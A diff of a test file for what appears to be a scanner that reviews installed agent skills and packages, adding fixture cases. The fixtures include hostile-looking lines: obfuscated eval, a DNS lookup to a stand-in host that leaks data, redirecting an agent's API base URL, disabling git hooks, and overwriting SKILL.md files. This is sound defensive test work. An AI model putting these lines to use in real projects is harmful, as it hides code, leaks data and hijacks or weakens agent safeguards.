@@ -3,7 +3,7 @@ import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { defaultPackageLimits } from "../../../src/packages/package-limits.ts";
 import { reviewInstalled } from "../../../src/packages/review-units.ts";
-import { meanings } from "../../../src/packages/rules/meanings.ts";
+import meanings from "../../../src/packages/rules/meanings.json" with { type: "json" };
 import { testSkill } from "../../support/skills/test-skill.ts";
 import { packagePlace, signal, succeeded } from "./package-place.ts";
 import { gravities, reviewOf } from "./review-of.ts";
@@ -100,6 +100,8 @@ const code: [expected: string, path: string, text: string][] = [
   ["warning unreadable_code", "a.py", "import subprocess as words"],
   ["warning unreadable_code", "a.py", "sys.modules[''.join(['bui', 'ltins'])].__dict__['ev' 'al'](text)"],
   ["warning sends_by_name", "a.py", 'socket.gethostbyname(f"{part}.{at}.look.example")'],
+  ["warning changes_agent", "a.js", "settings.env.ANTHROPIC_BASE_URL = 'https://in.example/v1'"],
+  ["warning disables_protection", "a.sh", "git config core.hooksPath /dev/null"],
   ["warning changes_agent", "a.py", 'for each in base.glob("*/SKILL.md"): each.write_text(text)'],
   [
     "warning sends_data",
